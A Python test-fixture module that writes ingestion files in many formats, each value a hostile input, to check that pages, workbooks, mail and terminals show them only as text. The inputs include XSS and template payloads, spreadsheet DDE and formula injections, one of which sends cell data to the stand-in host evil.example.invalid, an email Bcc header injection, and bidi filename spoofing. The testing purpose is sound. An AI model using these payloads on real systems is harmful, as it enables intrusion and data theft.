"""Deliveries whose every text attacks whoever shows it: a page, a workbook, a mail, a terminal.

`write` makes one file of any contract, in the contract's format: a row for each of `VALUES`, with that value in every
column that the source carries. `file_names` are names that a department could give such a file. What is shown must show
them as texts: `HIT` is set in a page where one of them ran.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable, Iterator, Mapping
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import xlsxwriter

from ingestion.contract.extension import Choose, CsvFormat
from ingestion.contract.health_formats import Hl7Format
from ingestion.contract.hl7_paths import hl7_path
from ingestion.contract.model import Contract, Table
from ingestion.contract.sources import FileDrop
from ingestion.intervals import Interval

HIT = "__hit"
"""The variable of a page's window that a value sets where it runs."""
ADDRESS = "stolen@example.invalid"
HOST = "evil.example.invalid"

VALUES: Mapping[str, str] = {
    "script": f"<script>window.{HIT}='script'</script>",
    "attribute": f'"><img src=x onerror="window.{HIT}=\'attribute\'">',
    "single_quote": f"'><svg onload=window.{HIT}='svg'></svg>",
    "end_of_script": f"</script></style></textarea><script>window.{HIT}='end'</script>",
    "link": f"javascript:window.{HIT}='link'//",
    "other_host": f'<img src="http://{HOST}/a.png"><link rel=stylesheet href="http://{HOST}/a.css">',
    "template": "{{ 7 * 7 }}{% raw %}${7*7}",
    "formula": f'=HYPERLINK("http://{HOST}/?"&A1,"打开")',
    "command": "+cmd|' /C calc'!A0",
    "subtraction": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "web_address": f"http://{HOST}/",
    "header": f"x\r\nBcc: {ADDRESS}\r\nContent-Type: text/html\r\n\r\n<b>y</b>",
    "direction": "\u202egnp.exe\u202c \u2066a\u2069",
    "zero_width": "甲\u200b\u200c\u200d\ufeff乙",
    "terminal": "\x1b]0;title\x07\x1b[31m",
    "long": "长" * 40_000,
}
"""By what each tries. The last is longer than a cell of a workbook may be."""

_NAME_BYTES = 120


def file_names() -> Iterator[str]:
    """What of `VALUES` a file's name can be, once with nothing in its way; without the names' suffix."""
    for value in VALUES.values():
        yield value.replace("/", "∕").replace("\x00", "").encode()[:_NAME_BYTES].decode(errors="ignore")


def interval_of(contract: Contract, day: date) -> Interval:
    """The first interval of a feed that ends on the day or later."""
    moment = datetime(day.year, day.month, day.day, tzinfo=UTC)
    return contract.calendar.at(moment)


def write(contract: Contract, interval: Interval, folder: Path, name: str = "") -> Path:
    """One file of the contract below `folder`, as its path in the drop folder says where it has one; `name` stands in
    the place of the path's first wildcard."""
    path = folder / _relative(contract, interval, name)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(_WRITERS[contract.citylake.format.type](contract))
    return path


def rows(table: Table) -> list[dict[str, str]]:
    """A row for each value, by the columns' names in the source."""
    sources = [column.source for column in table.source_columns if column.source is not None]
    return [dict.fromkeys(sources, value) for value in VALUES.values()]


def _relative(contract: Contract, interval: Interval, name: str) -> str:
    source = contract.citylake.source
    if not isinstance(source, FileDrop):
        return f"{contract.department}/{contract.feed}/{name or 'file'}"
    start = interval.start.astimezone(contract.calendar.zone)
    return source.path.format(interval=start).replace("*", name, 1).replace("*", "")


def _csv(contract: Contract) -> bytes:
    spec = contract.citylake.format
    assert isinstance(spec, CsvFormat)
    return _delimited(contract.tables[0], spec)


def _delimited(table: Table, spec: CsvFormat) -> bytes:
    text = io.StringIO()
    made = rows(table)
    writer = csv.DictWriter(text, list(made[0]), delimiter=spec.delimiter, quoting=csv.QUOTE_ALL)
    writer.writeheader()
    writer.writerows(made)
    return text.getvalue().encode(spec.encoding)


def _zip(contract: Contract) -> bytes:
    member = contract.citylake.format.member  # type: ignore[union-attr]
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for table in contract.tables:
            archive.writestr(str(table.source), _delimited(table, member))
    return content.getvalue()


def _record(table: Table, value: str) -> dict[str, Any]:
    """One JSON object: members, nested where the contract reads them by path, lists where it chooses an element."""
    record: dict[str, Any] = {}
    for column in table.source_columns:
        parts = (column.spec.path or f"$.{column.source}").removeprefix("$.").split(".")
        _put(record, parts, column.spec.choose, value)
    return record


def _put(place: dict[str, Any], parts: list[str], choose: Choose | None, value: str) -> None:
    name, _, index = parts[0].partition("[")
    if index:
        wanted = {choose.member: choose.equals} if choose else {}
        elements = place.setdefault(name, [])
        found = next((one for one in elements if wanted.items() <= one.items()), None)
        if found is None:
            elements.append(found := dict(wanted))
        _put(found, parts[1:], choose, value)
    elif len(parts) > 1:
        _put(place.setdefault(name, {}), parts[1:], choose, value)
    else:
        place[name] = value


def _ndjson(contract: Contract) -> bytes:
    records = [_record(contract.tables[0], value) for value in VALUES.values()]
    encoding = contract.citylake.format.encoding  # type: ignore[union-attr]
    return "".join(json.dumps(record, ensure_ascii=False) + "\n" for record in records).encode(encoding)


def _xlsx(contract: Contract) -> bytes:
    content, made = io.BytesIO(), rows(contract.tables[0])
    with xlsxwriter.Workbook(content, {"strings_to_formulas": False, "strings_to_urls": False}) as book:
        sheet = book.add_worksheet()
        for place, title in enumerate(made[0]):
            sheet.write_string(0, place, title)
            for number, row in enumerate(made, start=1):
                sheet.write_string(number, place, row[title][:32_767])
    return content.getvalue()


def _parquet(contract: Contract) -> bytes:
    sink = pa.BufferOutputStream()
    made = rows(contract.tables[0])
    pq.write_table(pa.table({name: [row[name] for row in made] for name in made[0]}), sink)
    return bytes(sink.getvalue())


def _fhir(contract: Contract) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for table in contract.tables:
            kind = str(table.source)
            resources = [{"resourceType": kind, **_record(table, value)} for value in VALUES.values()]
            lines = (json.dumps(resource, ensure_ascii=False) + "\n" for resource in resources)
            archive.writestr(f"{kind}.000.ndjson", "".join(lines))
    return content.getvalue()


_HL7_ESCAPES = str.maketrans({
    "\\": "\\E\\", "|": "\\F\\", "^": "\\S\\", "&": "\\T\\", "~": "\\R\\", "\r": "\\X0D\\", "\n": "\\X0A\\",
})  # fmt: skip


def _hl7(contract: Contract) -> bytes:
    """A message for each value, which stands wherever a column reads: in its own segment, one before or one after."""
    spec = contract.citylake.format
    assert isinstance(spec, Hl7Format)
    (table,) = contract.tables
    paths = [hl7_path(column.spec.path or str(column.source)) for column in table.source_columns]
    messages = []
    for number, value in enumerate(VALUES.values()):
        text = value.translate(_HL7_ESCAPES)
        header = ["MSH", "^~\\&", *[""] * 6, spec.messages[0], str(number), "P", "2.5"]
        segments: dict[str, list[str]] = {"MSH": header}
        for path in sorted(paths, key=lambda path: (path.after, path.segment == table.source)):
            fields = segments.setdefault(path.segment, [path.segment])
            place = path.field - (path.segment == "MSH")
            fields.extend([""] * (place + 1 - len(fields)))
            fields[place] = "~".join(["^".join([text] * (path.component or 1))] * (path.repetition or 1))
        messages.append("".join("|".join(fields) + "\r" for fields in segments.values()))
    return "".join(messages).encode()


_WRITERS: Mapping[str, Callable[[Contract], bytes]] = {
    "csv": _csv,
    "ndjson": _ndjson,
    "zip": _zip,
    "xlsx": _xlsx,
    "parquet": _parquet,
    "fhir": _fhir,
    "hl7": _hl7,
}
"""By format. A contract of another format needs a writer here before its values are tested."""
